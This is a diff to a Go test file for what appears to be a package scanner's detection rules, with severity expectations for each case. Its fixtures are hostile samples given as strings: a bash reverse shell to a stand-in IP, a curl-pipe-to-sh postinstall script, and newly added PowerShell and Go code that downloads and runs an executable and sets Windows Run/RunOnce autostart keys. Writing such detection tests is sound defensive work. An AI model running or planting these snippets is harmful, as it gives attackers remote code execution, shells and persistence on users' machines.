@@ -180,6 +180,8 @@ func TestGoGrading(t *testing.T) {
 		"// Doctor reports which credential files exist and checks the API.\nfunc Doctor() (*http.Response, error) {\n\tfor _, p := range paths {\n\t\tos.Stat(p)\n\t}\n\treturn http.Get(\"https://api.example.invalid/ping\")\n}\n"
 	shell := "package x\n\nimport \"os/exec\"\n\nfunc Shell() { exec.Command(\"bash\", \"-c\", \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\").Run() }\n"
 	postinstall := `{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s https://example.invalid/i.sh | sh"}}`
+	setupPS1 := "Invoke-WebRequest -Uri 'https://example.invalid/tools.exe' -OutFile $f\nStart-Process -FilePath $f -Wait\n" +
+		"Set-ItemProperty \"HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\" -Name 'Continue' -Value \"powershell.exe -file $PSCommandPath\"\n"
 	cases := []struct {
 		name string
 		tree *artifact.Tree
@@ -205,6 +207,11 @@ func TestGoGrading(t *testing.T) {
 		{"reverse shell string in ordinary code (a detection rule table)", goTreeOf(map[string]string{"x/x.go": shell}), "reverse-shell", record.Info, record.Medium},
 		{"Go module with a package.json postinstall", goTreeOf(map[string]string{"go.mod": "module example.com/m\n", "package.json": postinstall}), "install-script", quiet, 0},
 		{"Go module with a package.json postinstall (download-exec)", goTreeOf(map[string]string{"go.mod": "module example.com/m\n", "package.json": postinstall}), "download-exec", quiet, 0},
+		{"Go module's CI setup script: RunOnce key and a download that is run", goTreeOf(map[string]string{"scripts/windows/Setup.ps1": setupPS1}), "autostart-persistence", record.Low, record.Medium},
+		{"same setup script as a NuGet install script", treeOf(map[string]string{"tools/install.ps1": setupPS1}), "autostart-persistence", record.Critical, 0},
+		{"same behaviours in Go code", goTreeOf(map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n" +
+			"func Install() {\n\tr, _ := http.Get(\"https://example.invalid/a.exe\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(p, b, 0755)\n\texec.Command(p).Start()\n" +
+			"\texec.Command(\"reg\", \"add\", `HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`, \"/v\", \"a\", \"/d\", p).Run()\n}\n"}), "autostart-persistence", record.Critical, 0},
 		{"Go module with Python bindings' setup.py", goTreeOf(map[string]string{"setup.py": "import subprocess, urllib.request\nurllib.request.urlretrieve(U, 'lib.so')\nsubprocess.check_call(['go', 'build', '-buildmode=c-shared'])\n"}), "setup-py-exec", record.Info, record.Medium},
 	}
 	rs := DefaultRules()
